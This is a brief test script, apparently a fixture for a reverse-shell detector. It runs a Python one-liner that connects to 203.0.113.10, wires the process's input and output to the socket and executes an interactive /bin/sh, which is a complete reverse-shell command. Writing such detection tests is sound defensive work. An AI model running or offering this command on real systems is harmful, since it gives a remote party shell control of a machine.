# SPDX-License-Identifier: Apache-2.0
# A program connects, puts the connection where its input and output were, and becomes a shell.
# finds: reverse-shell
# needs: python3
call c1 'python3 -c "
import os, socket
s = socket.create_connection((\"203.0.113.10\", 80))
for fd in range(3): os.dup2(s.fileno(), fd)
s.send(b\"exit\\r\\n\\r\\n\")
os.execv(\"/bin/sh\", [\"sh\", \"-i\"])
" </dev/null || true'
